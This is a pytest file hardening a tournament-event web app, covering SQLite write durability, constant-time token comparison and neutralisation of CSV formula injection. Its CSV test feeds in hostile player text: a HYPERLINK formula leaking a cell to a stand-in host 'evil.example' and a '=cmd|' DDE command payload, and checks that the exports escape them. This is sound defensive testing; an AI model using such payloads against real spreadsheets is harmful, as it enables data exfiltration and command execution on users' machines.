"""Web hardening: each test replays an attack (or a failure) and shows it refused,
with the server's state as it was."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest
import websockets
from sqlalchemy import text

from app.api import guard
from app.api.events import csv_cell
from app.settings import Settings
from app.store.repository import Store
from tests.conftest import PhoneFactory, RunningServer, token_of

APP = Path(__file__).resolve().parents[2] / "app"


async def _event(http: httpx.AsyncClient, players: int = 0) -> tuple[str, str]:
    created = await http.post("/api/events", json={"name": "Hardening Open", "points": 75})
    assert created.status_code == 201, created.text
    eid, token = created.json()["id"], created.json()["admin_token"]
    for n in range(players):
        added = await http.post(
            f"/api/events/{eid}/players", json={"name": f"P{n}"}, headers={"X-EO-Token": token}
        )
        assert added.status_code == 201, added.text
    return eid, token


# --- durability: an acked tap survives a power loss ------------------------------------


def test_acked_tap_survives_power_loss__sqlite_synchronous_full_by_default(
    tmp_path: Path,
) -> None:
    """With synchronous=FULL the write-ahead log is synced at every commit: a tap the
    phone saw acked is on disk. Both the pool's connections and the hot-path writer."""
    assert Settings().sqlite_synchronous == "FULL"
    store = Store(f"sqlite:///{tmp_path / 'full.db'}")
    try:
        with store.engine.connect() as conn:
            assert conn.execute(text("PRAGMA synchronous")).scalar() == 2  # FULL
        writer = store._writer()
        assert writer.execute("PRAGMA synchronous").fetchone()[0] == 2
    finally:
        store.close()


def test_sqlite_synchronous_normal_only_when_chosen(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DEATHCLOCK_SQLITE_SYNCHRONOUS", "normal")
    settings = Settings.from_env()
    store = Store(f"sqlite:///{tmp_path / 'normal.db'}", synchronous=settings.sqlite_synchronous)
    try:
        with store.engine.connect() as conn:
            assert conn.execute(text("PRAGMA synchronous")).scalar() == 1  # NORMAL
    finally:
        store.close()
    with pytest.raises(ValueError, match="synchronous"):
        Store(f"sqlite:///{tmp_path / 'off.db'}", synchronous="OFF")


# --- constant-time token comparisons -----------------------------------------------------


def _names(node: ast.expr) -> list[str]:
    if isinstance(node, ast.Name):
        return [node.id]
    if isinstance(node, ast.Attribute):
        return [node.attr, *_names(node.value)]
    return []


def test_no_token_is_compared_with_eq_or_in() -> None:
    """A token compared with ==, != or `in` leaks, byte by byte, how much of a guess was
    right (the comparison stops at the first difference). Every token and key in app/
    goes through hmac.compare_digest instead."""
    found = []
    for path in sorted(APP.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if not isinstance(node, ast.Compare):
                continue
            if not any(isinstance(op, ast.Eq | ast.NotEq | ast.In | ast.NotIn) for op in node.ops):
                continue
            operands = [node.left, *node.comparators]
            names = [n.lower() for operand in operands for n in _names(operand)]
            if any("token" in n or n.endswith("key") for n in names):
                found.append(f"{path.relative_to(APP.parent)}:{node.lineno}")
    assert found == []


async def test_dashboard_socket_compares_eo_token_in_constant_time(
    server: RunningServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The dashboard socket's EO token goes through hmac.compare_digest; a near-miss, an
    empty token, a number or a lone surrogate all get the public view, not the EO's."""
    calls: list[tuple[bytes, bytes]] = []
    real = guard.hmac.compare_digest

    def spy(a: Any, b: Any) -> bool:
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(guard.hmac, "compare_digest", spy)
    async with httpx.AsyncClient(base_url=server.base) as http:
        eid, token = await _event(http)

    async def role(hello: str) -> str:
        async with websockets.connect(f"{server.ws_base}/ws/events/{eid}") as ws:
            await ws.send(hello)
            snapshot = json.loads(await ws.recv())
            assert snapshot["t"] == "dashboard"
            return str(snapshot["role"])

    assert await role(json.dumps({"t": "hello", "token": token})) == "eo"
    assert calls and calls[-1] == (token.encode(), token.encode())
    assert await role(json.dumps({"t": "hello", "token": token[:-1] + "x"})) == "public"
    assert await role(json.dumps({"t": "hello", "token": ""})) == "public"
    assert await role(json.dumps({"t": "hello", "token": 12345})) == "public"
    assert await role('{"t": "hello", "token": "\\ud800"}') == "public"


# --- CSV exports: no formula runs in the EO's spreadsheet ----------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for prizes")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


async def test_csv_exports_neutralise_formula_cells(
    server: RunningServer, phone: PhoneFactory
) -> None:
    """ST6 exports: player-typed text that a spreadsheet would run (a list played of
    =HYPERLINK(...), a name of =cmd|..., a faction of +, a name of @) is written with a
    leading single quote; the numbers the server wrote stay plain numbers; the stored
    text (the JSON API) is as the players typed it."""
    evil_names = ["=cmd|' /C calc'!A0", "@SUM(1+1)"]
    async with httpx.AsyncClient(base_url=server.base) as http:
        eid, token = await _event(http)
        eo = {"X-EO-Token": token}
        for name, faction in zip(evil_names, ("+Cryx", "-1+1"), strict=True):
            added = await http.post(
                f"/api/events/{eid}/players", json={"name": name, "faction": faction}, headers=eo
            )
            assert added.status_code == 201, added.text
        assert (await http.post(f"/api/events/{eid}/rounds", json={}, headers=eo)).is_success
        assert (await http.post(f"/api/events/{eid}/rounds/current/start", headers=eo)).is_success
        (table,) = (await http.get(f"/api/events/{eid}/tables", headers=eo)).json()
        tid = table["links"]["id"]
        p1 = await phone(tid, token_of(table["links"]["p1"]["url"]), "csv-1")
        p2 = await phone(tid, token_of(table["links"]["p2"]["url"]), "csv-2")
        assert (await p1.command("concede"))["t"] == "ack"
        reported = await p2.command("report", army_points_destroyed=20, list_played=HYPERLINK)
        assert reported["t"] == "ack", reported
        for client in (p1, p2):
            assert (await client.command("confirm"))["t"] == "ack", client.received[-1]

        exports = {}
        for name in ("results", "standings", "pairings"):
            response = await http.get(f"/api/events/{eid}/{name}.csv")
            assert response.status_code == 200
            exports[name] = list(csv.DictReader(io.StringIO(response.text)))
        winner = evil_names[1] if table["names"][1] == evil_names[1] else evil_names[0]
        sheet_id = next(
            p["id"]
            for p in (await http.get(f"/api/events/{eid}")).json()["players"]
            if p["name"] == winner
        )
        sheet = (await http.get(f"/api/events/{eid}/players/{sheet_id}/sheet")).json()

    cells = [v for rows in exports.values() for row in rows for v in row.values()]
    assert cells and not [v for v in cells if v.startswith(FORMULA_STARTS)]
    lists = [row["list_played"] for row in exports["results"] if row["list_played"]]
    assert lists == ["'" + HYPERLINK]
    assert {row["player"] for row in exports["results"]} == {"'" + n for n in evil_names}
    assert {row["faction"] for row in exports["results"]} == {"'+Cryx", "'-1+1"}
    assert {row["control_points"] for row in exports["results"]} <= {"0", "3"}  # numbers
    assert all(row["round"] == "1" for row in exports["pairings"])
    assert sheet["rounds"][0]["list_played"] == HYPERLINK  # stored as typed


def test_csv_cell_keeps_numbers_and_plain_text() -> None:
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5 and csv_cell(None) is None
    assert csv_cell("Eiryss") == "Eiryss" and csv_cell("") == ""
    assert csv_cell("-3") == "'-3"  # typed text, not a number the server wrote
    for start in FORMULA_STARTS:
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
